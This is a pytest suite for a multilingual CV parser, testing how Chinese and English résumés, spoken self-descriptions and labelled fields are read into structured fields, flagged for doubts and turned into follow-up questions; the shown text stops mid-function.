"""What CVs, notes and sentences say is read, with its words; nothing else is."""

import datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from resumes.fields import find_doubts, missing_questions, parse_fields
from resumes.fields.headings import heading_of, split_sections
from resumes.fields.prose import MAX_CLAUSES, Clause, Prose
from resumes.fields.prose_en import EnglishProse
from resumes.fields.prose_zh import ChineseProse
from resumes.pointers import MISSING, get_at, leaves_of

TODAY = datetime.date(2026, 11, 2)


def read(text: str) -> dict[str, Any]:
    return parse_fields(text, today=TODAY).document


def names(document: dict[str, Any], section: str) -> list[str]:
    return [e.get("name") or e.get("title") or e.get("language") for e in document.get(section, [])]


# --- sentences and notes ----------------------------------------------------------------------

SAID: list[tuple[str, dict[str, Any]]] = [
    (
        "我叫李雷，92年的，在杭州做了三年Java，之前在阿里",
        {
            "basics.name": "李雷",
            "work[0].location": "杭州",
            "work[0].summary": "做了三年Java",
            "work[1].name": "阿里",
            "work[0].startDate": MISSING,
        },
    ),
    (
        "大家好,我是王秀英,今年45岁,在郑州富士康干了六年普工,后来去了苏州的一家电子厂做质检员,干到去年年底",
        {
            "basics.name": "王秀英",
            "work[0].name": "富士康",
            "work[0].position": "普工",
            "work[1].name": MISSING,
            "work[1].location": "苏州",
            "work[1].position": "质检员",
            "work[1].endDate": "2025",
        },
    ),
    (
        "2013年毕业于湖南大学会计学专业，本科学历。2018年7月至今在长沙远大科技集团担任财务主管",
        {
            "education[0].institution": "湖南大学",
            "education[0].area": "会计学",
            "education[0].studyType": "本科",
            "education[0].endDate": "2013",
            "work[0].name": "长沙远大科技集团",
            "work[0].position": "财务主管",
            "work[0].startDate": "2018-07",
            "work[0].endDate": MISSING,
        },
    ),
    (
        "名字 彭丽华 手机13711112222 原来在沃尔玛干收银员5年 后面在永辉超市当理货主管 管8个人 去年11月辞职的",
        {
            "basics.name": "彭丽华",
            "basics.phone": "13711112222",
            "work[0].name": "沃尔玛",
            "work[1].position": "理货主管",
            "work[1].endDate": "2025-11",
            "work[1].highlights[0]": "管8个人",
        },
    ),
    (
        "我是装空调的",
        {"basics.label": "装空调", "work": MISSING},
    ),
    (
        "I've been a staff nurse at Leeds General since 2019, NMC registered",
        {
            "work[0].name": "Leeds General",
            "work[0].position": "staff nurse",
            "work[0].startDate": "2019",
            "work[0].endDate": MISSING,
            "certificates[0].name": "NMC registered",
        },
    ),
    (
        "been a healthcare assistant at Fernhill House since last spring",
        {"work[0].name": "Fernhill House", "work[0].startDate": MISSING},
    ),
    (
        (
            "I'm Priya Nair. Worked as a retail assistant at Marks and Spencer in Birmingham from 2017 "
            "to 2020, then moved to Boots as a pharmacy dispenser until March 2024."
        ),
        {
            "basics.name": "Priya Nair",
            "work[0].name": "Boots",
            "work[0].endDate": "2024-03",
            "work[1].name": "Marks and Spencer",
            "work[1].location": "Birmingham",
        },
    ),
    (
        "I graduated from Ohio State in May 2023 with a degree in mechanical engineering.",
        {
            "education[0].institution": "Ohio State",
            "education[0].area": "mechanical engineering",
            "education[0].endDate": "2023-05",
        },
    ),
    (
        "Tom Baker. Joiner by trade. City and Guilds Level 3. Own van and tools. 07700 900321",
        {
            "basics.name": "Tom Baker",
            "basics.label": "Joiner",
            "basics.phone": "07700900321",
            "certificates[0].name": "City and Guilds Level 3",
        },
    ),
]


@pytest.mark.parametrize(("text", "wanted"), SAID, ids=[s[0][:24] for s in SAID])
def test_what_was_said_is_read(text: str, wanted: dict[str, Any]) -> None:
    document = read(text)
    for path, value in wanted.items():
        assert get_at(document, path.replace("[", ".[")) == value, (path, document)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "你好",
        "hello there",
        "今天天气不错",
        "find me a job in Leeds please",
        "谢谢",
        "???",
        "\n\n",
    ],
)
def test_words_that_say_nothing_about_oneself_give_nothing(text: str) -> None:
    assert read(text) == {}


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("teaching assistant in Bradford. left because of my gran, dont put that", "gran"),
        ("在超市做收银,离过婚,这个别写", "离过婚"),
    ],
)
def test_what_is_not_to_be_put_in_is_left_out(text: str, secret: str) -> None:
    assert secret not in str(read(text))


def test_a_malformed_address_and_number_stay_as_typed_and_are_doubted() -> None:
    parsed = parse_fields("我叫刘敏,电工,电话1380000221,邮箱 liumin@example,com", today=TODAY)
    assert parsed.document["basics"]["phone"] == "1380000221"
    assert parsed.document["basics"]["email"] == "liumin@example,com"
    assert {d.why for d in parsed.doubts} >= {"phone_length", "email_malformed"}


# --- whole CVs --------------------------------------------------------------------------------

ENGLISH_CV = """JANE DOE SMITH
Senior Product Manager
London, UK | jane.smith@example.com | +44 7700 900456

SUMMARY
Product leader with 9 years' experience in fintech.

EXPERIENCE

Mint Bank — Senior Product Manager                                   Jan 2021 – Present
London
• Launched joint accounts to 400k customers
• Led a team of 6

Volt Pay — Product Manager                                  Mar 2017 – Dec 2020
• Cut onboarding time by 40%

EDUCATION
BA (Hons) History, University of Leeds, 2012 – 2015

SKILLS
SQL, Figma, A/B testing

LANGUAGES
English (native), French (conversational)
"""
CHINESE_CV = """个人简历
姓名：周子轩    性别：男    出生年月：1996.03
电话：15812345678   邮箱：zzx96@example.com
现居：成都市武侯区
求职意向：新媒体运营

教育经历
2014/09 - 2018/06    四川大学    新闻学 | 本科

工作经历
2020/05 - 至今    成都果壳文化传播有限公司    新媒体运营主管
工作内容：
1、负责公司抖音、小红书账号运营，粉丝从2万增长至35万；
2、策划“城市夜跑”活动，参与人数5000+。
2018/07 - 2020/04    重庆米粒传媒    编辑
- 撰写公众号推文200余篇

获奖情况
2017年 国家励志奖学金

技能证书
普通话二级甲等、CET-6、熟练使用PS、Excel
"""


def test_an_english_cv_is_read_whole() -> None:
    document = read(ENGLISH_CV)
    assert document["basics"]["name"] == "JANE DOE SMITH"
    assert document["basics"]["label"] == "Senior Product Manager"
    assert document["basics"]["location"]["city"] == "London"
    first, second = document["work"]
    assert (first["name"], first["startDate"], "endDate" in first) == (
        "Mint Bank",
        "2021-01",
        False,
    )
    assert first["highlights"] == ["Launched joint accounts to 400k customers", "Led a team of 6"]
    assert (second["position"], second["endDate"]) == ("Product Manager", "2020-12")
    assert document["education"][0]["institution"] == "University of Leeds"
    assert names(document, "skills") == ["SQL", "Figma", "A/B testing"]
    assert document["languages"][1] == {"language": "French", "fluency": "conversational"}


def test_a_chinese_cv_is_read_whole() -> None:
    document = read(CHINESE_CV)
    assert document["basics"]["name"] == "周子轩"
    assert document["basics"]["location"]["city"] == "成都"
    assert document["basics"]["label"] == "新媒体运营"
    assert "1996" not in str(document)
    first, second = document["work"]
    assert (first["name"], first["position"]) == ("成都果壳文化传播有限公司", "新媒体运营主管")
    assert len(first["highlights"]) == 2
    assert (second["name"], second["endDate"]) == ("重庆米粒传媒", "2020-04")
    assert document["awards"] == [{"title": "国家励志奖学金", "date": "2017"}]
    assert names(document, "certificates") == ["普通话二级甲等", "CET-6"]
    assert names(document, "skills") == ["PS", "Excel"]


def test_time_on_a_line_of_its_own_below_title_and_employer() -> None:
    document = read(
        "Ann Marsh\nWORK EXPERIENCE\n\nBaker\n\nCrumb Ltd - Leeds\n\nAugust 2016 to Present\n\n"
        "• Sourdough for 3 shops\n\nKitchen Assistant\n\nOak Grill Ltd - Hull\n\n"
        "March 2014 to July 2016\n\n• Prep\nEDUCATION\nGCSEs\nHull College\n2012"
    )
    assert [(e["name"], e["position"], e["startDate"]) for e in document["work"]] == [
        ("Crumb Ltd", "Baker", "2016-08"),
        ("Oak Grill Ltd", "Kitchen Assistant", "2014-03"),
    ]
    assert document["education"][0]["institution"] == "Hull College"


def test_several_roles_under_one_employer_keep_it() -> None:
    document = read(
        "EXPERIENCE\nOak Labs, Leeds\nTeam Lead\n2020 - 2023\n- Led 4 people\nDeveloper\n"
        "2017 - 2020\n- Built things"
    )
    assert [(e["name"], e["position"]) for e in document["work"]] == [
        ("Oak Labs", "Team Lead"),
        ("Oak Labs", "Developer"),
    ]


@pytest.mark.parametrize(
    ("line", "section"),
    [
        ("个 人 信 息", "basics"),
        ("【工作经历】", "work"),
        ("一、教育背景", "education"),
        ("S K I L L S", "skills"),
        ("WORK EXPERIENCE:", "work"),
        ("教育背景 Education", "education"),
        ("## Skills", "skills"),
        ("I have experience in retail", None),
    ],
)
def test_headings(line: str, section: str | None) -> None:
    assert heading_of(line) == section


def test_a_label_inside_an_entry_begins_no_section() -> None:
    text = "Experience\nOak Labs 2019-2020\nTools: Python, SQL\nEducation\nBSc"
    assert [s.name for s in split_sections(text)] == ["work", "education"]


# --- what holds for every text ----------------------------------------------------------------

# --- labelled cells --------------------------------------------------------------------------

LABELLED: list[tuple[str, dict[str, Any]]] = [
    (
        "求职意向：幼儿园老师  期望城市：厦门  期望薪资：6-8K",
        {
            "basics.label": "幼儿园老师",
            "meta.jobassist.desiredCity": "厦门",
            "meta.jobassist.expectedSalary": "6-8K",
            "basics.location": MISSING,
        },
    ),
    (
        "姓名：杜鹃性别：女电话：13800004455期望职位：收银员期望城市：佛山",
        {"basics.name": "杜鹃", "basics.label": "收银员", "meta.jobassist.desiredCity": "佛山"},
    ),
    (
        "姓　名 | 石磊 | 学　历 | 大专 | 专　业 | 数控技术",
        {
            "basics.name": "石磊",
            "education[0].studyType": "大专",
            "education[0].area": "数控技术",
        },
    ),
    (
        "Name: Bryn Hale Mobile: 07700 900811 Town: Neath Desired role: Fitter Notice period: 2 weeks",
        {
            "basics.name": "Bryn Hale",
            "basics.phone": "07700900811",
            "basics.label": "Fitter",
            "meta.jobassist.availability": "2 weeks",
        },
    ),
    (
        "专业技能：开叉车、盘点  期望城市：无锡",
        {"skills[1].name": "盘点", "meta.jobassist.desiredCity": "无锡"},
    ),
    ("期望城市是洛阳", {"meta.jobassist.desiredCity": "洛阳", "basics": MISSING}),
    (
        "证书\n初级会计\n13800006677\nlu@example.com\n南京市鼓楼区\n\n自我评价\n做事细致，能吃苦。",
        {
            "certificates[0].name": "初级会计",
            "certificates[1]": MISSING,
            "basics.email": "lu@example.com",
            "basics.location.city": "南京",
        },
    ),
    (
        "Aneta Kowalczyk Dental Receptionist\naneta@example.com\n\nSkills\nSoE, Excel",
        {"basics.name": "Aneta Kowalczyk", "basics.label": "Dental Receptionist"},
    ),
    (
        "ŁUKASZ ŻAK\nWelder\n07700 900733\n\nSkills\nMIG, TIG",
        {"basics.name": "ŁUKASZ ŻAK", "basics.label": "Welder"},
    ),
    (
        "Widodo\nPastry Chef\n07700 900734\n\nSkills\nBaking",
        {"basics.name": "Widodo", "basics.label": "Pastry Chef", "work": MISSING},
    ),
]


@pytest.mark.parametrize(("text", "wanted"), LABELLED, ids=[s[0][:16] for s in LABELLED])
def test_a_labelled_value_ends_where_the_next_thing_begins(
    text: str, wanted: dict[str, Any]
) -> None:
    document = read(text)
    assert {path: get_at(document, path) for path in wanted} == wanted


# --- layouts of jobs and schools -------------------------------------------------------------

LAYOUTS: dict[str, tuple[str, dict[str, Any]]] = {
    "title, employer, town; the time below": (
        (
            "Employment\n\nCare Assistant, Rowan House Care Home, Otley\nMay 2021 - present\n- Medication rounds\n"
            "- Mentor to new carers\n\nCare Assistant, Glebe Lodge Nursing Home, Ripon\nJune 2017 - April 2021\n- Nights"
        ),
        {
            "work[0].location": "Otley",
            "work[0].startDate": "2021-05",
            "work[0].highlights": ["Medication rounds", "Mentor to new carers"],
            "work[1].location": "Ripon",
            "work[1].endDate": "2021-04",
        },
    ),
    "the unit is no employer": (
        (
            "Employment\nSt Aidan's Hospital, Durham\nCharge Nurse, Renal Unit\tMay 2020 - present\n- Rotas\n"
            "Cold Harbour Hospital, Whitby\nStaff Nurse, Day Surgery\tMay 2016 - April 2020\n- Recovery\n"
            "Education and registration\nBSc Nursing, University of Teesside, 2013 - 2016"
        ),
        {
            "work[0].name": "St Aidan's Hospital",
            "work[0].position": "Charge Nurse, Renal Unit",
            "work[0].highlights": ["Rotas"],
            "work[1].name": "Cold Harbour Hospital",
            "work[1].highlights": ["Recovery"],
            "education[0].studyType": "BSc",
        },
    ),
    "columns of spaces": (
        (
            "WORK\n\n2020 - now    Crane / Slinger            Tyne Lifting Ltd, Gateshead\n"
            "              Tower and crawler cranes\n"
            "2015 - 2020   Various agency work (docks)   Hull and Immingham\n"
            "2011 - 2015   Labourer                   J. Firth & Sons, Goole"
        ),
        {
            "work[0].name": "Tyne Lifting Ltd",
            "work[0].position": "Crane / Slinger",
            "work[0].highlights": ["Tower and crawler cranes"],
            "work[1].name": MISSING,
            "work[1].startDate": "2015",
            "work[2].name": "J. Firth & Sons",
            "work[2].position": "Labourer",
        },
    ),
    "a span over two lines": (
        (
            "Experience\n2021, March Harbour Analytics Ltd, Cork\n2023, May Data Engineer\nBuilt the loading of data.\n"
            "2018, June Quay Systems Ltd, Cork\nOctober Intern\nWrote reports."
        ),
        {
            "work[0].name": "Harbour Analytics Ltd",
            "work[0].position": "Data Engineer",
            "work[0].startDate": "2021-03",
            "work[0].endDate": "2023-05",
            "work[1].startDate": "2018-06",
            "work[1].endDate": "2018-10",
        },
    ),
    "a form": (
        (
            "工作经验\n单位：宁波海曙塑料制品厂\n岗位：注塑领班\n时间：2018/04-至今\n职责：管12台注塑机\n"
            "单位：慈溪恒达电器厂\n岗位：装配工\n时间：2012/03-2018/03\n职责：流水线装配"
        ),
        {
            "work[0].name": "宁波海曙塑料制品厂",
            "work[0].startDate": "2018-04",
            "work[0].highlights": ["管12台注塑机"],
            "work[1].position": "装配工",
            "work[1].startDate": "2012-03",
            "work[1].endDate": "2018-03",
        },
    ),
    "time without a job": (
        "工作经历\n2021.3-至今 韵达快递 快递员 合肥\n2019.1-2020.12 照顾老人、带孩子\n2015.2-2018.12 申通快递 分拣员 合肥",
        {"work[0].position": "快递员", "work[1].position": "分拣员", "work[2]": MISSING},
    ),
    "a school that no word gives away": (
        (
            "EDUCATION\nBA (Fine Art & Design), LCAD Lincoln, 2014 - 2017\n"
            "Ysgol Bro Teifi        2007 - 2014\nA-levels: Art, Welsh"
        ),
        {
            "education[0].institution": "LCAD Lincoln",
            "education[0].area": "Fine Art & Design",
            "education[1].institution": "Ysgol Bro Teifi",
        },
    ),
    "what runs out": (
        "Licences\nCat C+E, CPC to 2028\nSIA licence, registered since 2019",
        {
            "certificates[1].name": "CPC to 2028",
            "certificates[1].date": MISSING,
            "certificates[2].date": "2019",
            "certificates[3]": MISSING,
        },
    ),
    "pasted from a phone": (
        (
            "tariq mahmood\ntariq.mahmood@example.com 07700900871 luton\n\nlooking for: van driver\n\n"
            "taxi driver 2014 - 2020"
        ),
        {"basics.name": "tariq mahmood", "basics.label": "van driver", "work[0].endDate": "2020"},
    ),
    "letters, a list of tickets and a rare language": (
        (
            "Marta Silva, RGN\nRegistered Nurse, Theatres\nmarta@example.com | Hexham NE46\n\n"
            "Education and registration\nBSc Nursing, Northumbria University, 2012 - 2015\n"
            "NMC registered since 2015; Advanced Life Support (2023)\n\n"
            "Tickets\n2019\tManual handling\n2021\tFire warden\n\nLanguages\nTetum (native), English"
        ),
        {
            "basics.name": "Marta Silva",
            "basics.label": "Registered Nurse, Theatres",
            "basics.location.city": "Hexham",
            "certificates[0].name": "NMC registered",
            "certificates[0].date": "2015",
            "certificates[2].name": "Manual handling",
            "certificates[2].date": "2019",
            "certificates[3].date": "2021",
            "languages[0].language": "Tetum",
            "languages[0].fluency": "native",
        },
    ),
    "headings of Markdown, and a sentence that ends with a year": (
        (
            "# Nils Aker\n\n**Welder** · Hull · nils@example.com\n\n## Experience\n\n"
            "### Welder, Humber Boats Ltd, Hull\n*2016 – now*\n\n"
            "Repairs of hulls and railings, about forty a year, no failed test since 2018."
        ),
        {
            "basics.name": "Nils Aker",
            "work[0].position": "Welder",
            "work[0].startDate": "2016",
            "work[1]": MISSING,
        },
    ),
    "a post at a school is no schooling": (
        "教育背景\n2001.9-2005.7 安徽师范大学 化学 本科\n2016年被合肥工业大学聘为硕士生兼职导师",
        {"education[0].institution": "安徽师范大学", "education[1]": MISSING},
    ),
    "a heading in two languages, a span until today": (
        (
            "Lena Vogt, Dipl.-Ing.\nlena@example.de\n\nBerufserfahrung / Work experience\n"
            "03/2020 – today     Elbe Pumpen GmbH, Dresden — Test Engineer\n"
            "                    • Endurance tests\n\nEducation\n2012 – 2017  TU Dresden, Dipl.-Ing. Mechanics"
        ),
        {
            "work[0].name": "Elbe Pumpen GmbH",
            "work[0].startDate": "2020-03",
            "work[0].endDate": MISSING,
            "education[0].institution": "TU Dresden",
        },
    ),
    "the heads of a table": (
        (
            "Education\nDegree        Institute                   Year    Percentage\n"
            "B.E. (Civil)  Vasant College of Engineering   2018    71%"
        ),
        {"education[0].institution": "Vasant College of Engineering", "education[1]": MISSING},
    ),
    "labels below the jobs": (
        "工作经历：\n2012—2020 唐山恒通钢构有限公司 铆工\n证：焊工证、登高证\n工资要求：300一天\n联系：13000005679",
        {
            "work[0].highlights": MISSING,
            "certificates[0].name": "焊工证",
            "meta.jobassist.expectedSalary": "300一天",
            "basics.phone": "13000005679",
        },
    ),
    "title and employer run together, a name like a label": (
        (
            "EXPERIENCE\nDATA ENGINEER INBLOOM LTD, CORK, IRELAND 2019-PRESENT\nP2P LENDING\nPipelines in Spark.\n"
            "DATA ANALYST TIDEWAY GROUP, GALWAY, IRELAND\nINSURANCE\nReports in SQL."
        ),
        {
            "work[0].name": "INBLOOM LTD",
            "work[0].position": "DATA ENGINEER",
            "work[1].name": "TIDEWAY GROUP",
            "work[1].position": "DATA ANALYST",
            "work[2]": MISSING,
        },
    ),
    "how one is called is no trade": (
        "我是刘师傅，开挖机的，现在住唐山，电话13000005670",
        {"basics.label": "开挖机", "basics.location.city": "唐山"},
    ),
    "wishes under a heading": (
        "求职意向\n职位：行政专员 城市：温州、台州 薪资：6K\n工作经历\n2020.3-至今 温州瓯江鞋业有限公司 前台",
        {
            "basics.location": MISSING,
            "basics.label": "行政专员",
            "meta.jobassist.desiredCity": "温州、台州",
            "meta.jobassist.expectedSalary": "6K",
        },
    ),
}


@pytest.mark.parametrize(("text", "wanted"), LAYOUTS.values(), ids=LAYOUTS)
def test_layouts(text: str, wanted: dict[str, Any]) -> None:
    document = read(text)
    assert {path: get_at(document, path) for path in wanted} == wanted


EVERY = [s[0] for s in (*SAID, *LABELLED, *LAYOUTS.values())] + [ENGLISH_CV, CHINESE_CV]


def check_sources(text: str) -> None:
    """Every leaf has a span, in the text; a value in the text's own words stands there."""
    parsed = parse_fields(text, today=TODAY)
    leaves = dict(leaves_of(parsed.document))
    assert leaves.keys() == parsed.sources.keys()
    for pointer, span in parsed.sources.items():
        words = text[span.start : span.end]
        assert words.strip(), pointer
        value = str(leaves[pointer])
        field = pointer.rsplit("/", 1)[-1]
        if field in ("startDate", "endDate", "date", "releaseDate", "phone", "email"):
            continue
        if field in ("network", "username", "url"):
            continue
        folded = "".join(words.split()).casefold()
        assert "".join(value.split()).casefold()[:3] in folded or value[:2] in words, pointer


@pytest.mark.parametrize("text", EVERY, ids=range(len(EVERY)))
def test_every_value_has_its_words(text: str) -> None:
    check_sources(text)


FRAGMENTS = st.sampled_from(
    [
        "我叫李雷", "在杭州云杉科技有限公司做后端", "2019.3-2021.5", "至今", "本科", "山东大学",
        "会计证", "13800000001", "a@b.com", "工作经历", "Skills", "EDUCATION", "\n", "，", "。",
        " ", "-", "•", "|", "(", ")", "Ann Marsh", "baker at Crumb Ltd", "since 2019", "2010 - 2012",
        "Leeds", "BSc Nursing", "speaks French", "before that", "then", "Python, SQL", "😀", "\u3000",
        "某", "不要写", "dont put that", "：", "姓名：", "Email:", "Level 3", "\t", "99999999999",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=14).map("".join))
def test_no_text_breaks_the_reading_and_every_leaf_has_a_source(text: str) -> None:
    parsed = parse_fields(text, today=TODAY)
    assert {p for p, _v in leaves_of(parsed.document)} == set(parsed.sources)
    for span in parsed.sources.values():
        assert 0 <= span.start <= span.end <= len(text)
    missing_questions(parsed.document, parsed.doubts, today=TODAY)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=120))
def test_any_characters_at_all_can_be_read(text: str) -> None:
    parse_fields(text, today=TODAY)


def test_a_long_text_is_read_in_bounded_time() -> None:
    import time

    text = (ENGLISH_CV + CHINESE_CV) * 60
    start = time.perf_counter()
    parse_fields(text, today=TODAY)
    assert time.perf_counter() - start < 20


# --- doubts and questions ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("document", "why", "first"),
    [
        (
            {"work": [{"startDate": "2021-01", "endDate": "2020-12"}]},
            "end_before_start",
            "work[0].endDate",
        ),
        ({"work": [{"startDate": "2027-05"}]}, "start_in_future", "work[0].startDate"),
        (
            {
                "work": [
                    {"name": "B", "startDate": "2020-06", "endDate": "2022-03"},
                    {"name": "A", "startDate": "2018-05", "endDate": "2020-12"},
                ]
            },
            "overlap",
            "work[1].endDate",
        ),
        (
            {"education": [{"studyType": "本科", "startDate": "2015", "endDate": "2018"}]},
            "study_too_short",
            "education[0].endDate",
        ),
        (
            {"basics": {"summary": "12 years of sales"}, "work": [{"startDate": "2020"}]},
            "years_mismatch",
            "basics.summary",
        ),
        ({"basics": {"name": "Tomasz W."}}, "only_initial", "basics.name"),
        ({"work": [{"name": "某外贸公司"}]}, "employer_hidden", "work[0].name"),
        ({"basics": {"email": "a@@b.com"}}, "email_malformed", "basics.email"),
    ],
)
def test_doubts(document: dict[str, Any], why: str, first: str) -> None:
    found = {d.why: d.paths[0] for d in find_doubts(document, today=TODAY)}
    assert found.get(why) == first


@pytest.mark.parametrize(
    "document",
    [
        {"work": [{"startDate": "2018", "endDate": "2020"}, {"startDate": "2020"}]},
        {"work": [{"startDate": "2018-01", "endDate": "2020-03"}, {"startDate": "2020-03"}]},
        {"education": [{"studyType": "本科", "startDate": "2014-09", "endDate": "2018-06"}]},
        {"education": [{"studyType": "专升本", "startDate": "2016", "endDate": "2018"}]},
        {"education": [{"studyType": "BA", "startDate": "2012", "endDate": "2015"}]},
        {"education": [{"endDate": "2027-06"}]},
        {"basics": {"email": "a.b@example.com", "phone": "+44 7700 900456"}},
        {"basics": {"phone": "13800000001"}},
        {"basics": {"summary": "5 years"}, "work": [{"startDate": "2021"}]},
    ],
)
def test_what_is_in_order_is_not_doubted(document: dict[str, Any]) -> None:
    assert find_doubts(document, today=TODAY) == ()


def test_questions_begin_with_what_is_wrong_then_who_it_is() -> None:
    document = {
        "basics": {"phone": "1380000221"},
        "work": [{"name": "Elm", "startDate": "2021-01", "endDate": "2020-12"}],
    }
    questions = missing_questions(document, find_doubts(document, today=TODAY), today=TODAY)
    assert [q.path for q in questions][:4] == [
        "basics.phone",
        "work[0].endDate",
        "basics.name",
        "work[0].position",
    ]
    assert len(questions) <= 8
    assert questions[0].reason == "doubtful"
    assert questions[1].reason == "contradictory"
    assert "Elm" in questions[1].question


def test_what_was_declined_is_not_asked_and_frees_a_place() -> None:
    document = {"work": [{"position": "chef"}]}
    first = [q.path for q in missing_questions(document, today=TODAY)]
    then = [
        q.path
        for q in missing_questions(
            document, asked=frozenset({"basics.name", "resume.basics.phone"})
        )
    ]
    assert first[:2] == ["basics.name", "basics.phone"]
    assert not {"basics.name", "basics.phone"} & set(then)


def test_examples_fit_the_trade_and_say_nothing_by_themselves() -> None:
    from django.utils import translation

    from resumes.fields import parse_answer

    document = {"work": [{"position": "外卖骑手", "name": "美团"}]}
    with translation.override("zh-hans"):
        question = next(
            q for q in missing_questions(document, today=TODAY) if q.path == "work[0].highlights"
        )
    assert any("单" in e for e in question.examples)
    for example in question.examples:
        if "…" in example:
            assert not parse_answer(question.path, example, today=TODAY, document=document).changes


@pytest.mark.parametrize(
    ("cell", "prose"), [("b\t", EnglishProse), ("cook, ", EnglishProse), ("电工，", ChineseProse)]
)
def test_of_one_line_only_so_many_clauses_are_read(
    cell: str, prose: type[Prose], monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[Clause] = []
    monkeypatch.setattr(prose, "_clause", lambda _self, clause: seen.append(clause))
    parse_fields(cell * 5000, today=TODAY)
    assert 0 < len(seen) <= MAX_CLAUSES
    seen.clear()
    parse_fields("\n".join([cell * 400] * 4), today=TODAY)
    assert len(seen) > MAX_CLAUSES


@pytest.mark.parametrize(
    ("jobs", "words"),
    [
        ([{"name": "Bywell Dairy"}, {"position": "milker"}], ["Bywell Dairy", "milker"]),
        ([{"position": "milker"}, {}], ["milker", "another job"]),
        ([{}, {"name": "Bywell Dairy"}], ["this job", "Bywell Dairy"]),
        (
            [{"name": "Bywell Dairy", "position": "clerk"}, {"name": "Bywell Dairy", "position": "milker"}],
            ["Bywell Dairy (", "and milker"],
        ),
    ],
)  # fmt: skip
def test_a_question_about_two_jobs_names_both(jobs: list[dict[str, str]], words: list[str]) -> None:
    jobs[0] |= {"startDate": "2012-02", "endDate": "2015-06"}
    jobs[1] |= {"startDate": "2013-09", "endDate": "2016-01"}
    document: dict[str, Any] = {"work": jobs}
    doubts = find_doubts(document, today=TODAY)
    question = missing_questions(document, doubts, today=TODAY)[0]
    assert question.why == "overlap"
    for word in words:
        assert word in question.question


def test_a_question_about_a_school_without_a_name_names_nothing_empty() -> None:
    from django.utils import translation

    document = {"work": [{"position": "焊工"}], "education": [{"score": "3.6"}]}
    with translation.override("zh-hans"):
        questions = missing_questions(document, today=TODAY)
    asked = next(q.question for q in questions if q.path == "education[0].endDate")
    assert "这段学业" in asked


@pytest.mark.parametrize(
    ("section", "wanted"),
    [
        ("Languages\nWelsh, native\nTigrinya, Fluent\n", {"Welsh": "native", "Tigrinya": "Fluent"}),
        ("Languages\nFrench Native\nEwe Basic\n", {"French": "Native", "Ewe": "Basic"}),
        ("Languages\nGerman — C1\nKotlin — advanced\n", {"German": "C1"}),
        ("语言能力\n英语 良好\n彝语 熟练\n", {"英语": "良好", "彝语": "熟练"}),
    ],
)
def test_a_rare_language_keeps_its_level(section: str, wanted: dict[str, str]) -> None:
    entries = read(f"Kofi Mensah\n\n{section}")["languages"]
    assert {e["language"]: e.get("fluency") for e in entries} == wanted


def test_words_for_posts_held_are_no_skills() -> None:
    document = read(
        "王一\n\n岗位关键词\n站长\n副教授\n\n技能\nCAD\n\n工作经历\n2019.3-2022.5 南风机械厂 站长\n"
    )
    assert names(document, "skills") == ["CAD"]


@pytest.mark.parametrize(
    ("text", "certificates"),
    [
        ("李四，大专学历，执业护士，想找护理工作。", ["执业护士"]),
        ("我在康民医院做执业医师。", []),
        ("工作经历\n2019.3-2023.5 仁和大药房 执业药师\n", []),
    ],
)
def test_a_right_to_practise_alone_is_a_certificate(text: str, certificates: list[str]) -> None:
    document = read(text)
    assert names(document, "certificates") == certificates
    assert "执业" not in str([e.get("highlights") for e in document.get("work", [])])


@pytest.mark.parametrize(
    "text",
    [
        "Ida Holm\nCare assistant with nine years on night shifts in homes\n\n\u260e \u2709: \u2302: Thurso\n\nExperience\n2019 - 2023 Carer, Elm House Ltd\n",
        "Ida Holm\n\nProfile\n\U0001f4de \U0001f4e7: \U0001f382: Thurso\nCare assistant with nine years on night shifts in homes\n\nExperience\n2019 - 2023 Carer, Elm House Ltd\n",
        "Ida Holm\n\nProfile\nCare assistant with nine years on night shifts in homes\nE-mail: ********\nPhone:\n\nExperience\n2019 - 2023 Carer, Elm House Ltd\n",
        "Ida Holm\n\nProfile\nCare assistant with nine years on night shifts in homes\nEmail: ida@example.com\n\nExperience\n2019 - 2023 Carer, Elm House Ltd\n",
    ],
)
def test_signs_and_emptied_contacts_stay_out_of_a_summary(text: str) -> None:
    summary = read(text)["basics"]["summary"]
    assert summary == "Care assistant with nine years on night shifts in homes"


def test_a_line_with_a_sign_that_tells_something_stays_in_the_summary() -> None:
    lines = "\u2714 Nine years of night shifts in three homes\n\u2605 Phone: I handled 80 calls a day at the front desk"
    document = read(f"Ida Holm\n\nProfile\n{lines}\n\nSkills\nFirst aid\n")
    assert "80 calls" in document["basics"]["summary"]
    assert "three homes" in document["basics"]["summary"]


# --- a job board's own layout -----------------------------------------------------------------

BOARD = """Ann Marsh
Reconciler - Quillwork

Leeds, West Yorkshire - Email me on Indeed: indeed.com/r/example

Four years of matching what was paid with what was sold, lately with Ledgerly and Kestrel Desk.

WORK EXPERIENCE

Reconciler

Quillwork -  Leeds, West Yorkshire -

May 2019 to Present

Responsibilities
• Match the day's payments with the orders, and chase what is left over by noon.
• Physical Inventory of the stock room each quarter, with Goods Movement in Kestrel Desk.

Planning Lead

Orrery & Vane -

June 2016 to April 2019

Kept the rota of sixty people and the vans.

indeed.com/r/example

Fitter at Marlow Pumps

Harbour Extension -  Hull, East Yorkshire

Serviced the pumps of the new dock.

EDUCATION

BSc in Mathematics

University of Leeds -  Leeds, West Yorkshire

2012 to 2015

SKILLS

Excel (6 years), Ledgerly (4 years), rotas, stock taking, double-entry bookkeeping, payroll
"""


def test_a_job_board_s_layout_says_what_each_line_is() -> None:
    work = read(BOARD)["work"]
    assert [(j.get("position"), j.get("name"), j.get("location")) for j in work] == [
        ("Reconciler", "Quillwork", "Leeds, West Yorkshire"),
        ("Planning Lead", "Orrery & Vane", None),
        ("Fitter", "Marlow Pumps", "Hull, East Yorkshire"),
    ]
    assert [(j.get("startDate"), j.get("endDate")) for j in work] == [
        ("2019-05", None),
        ("2016-06", "2019-04"),
        (None, None),
    ]


@pytest.mark.parametrize(
    ("lines", "work"),
    [
        ("", []),
        ("Clerk", [("Clerk", None, None)]),
        ("indeed.com/r/example", []),
        ("Clerk\n\n2019 to 2020", [("Clerk", "2019", "2020")]),
    ],
)
def test_a_board_s_section_without_an_employer_names_none(
    lines: str, work: list[tuple[str | None, ...]]
) -> None:
    document = read(
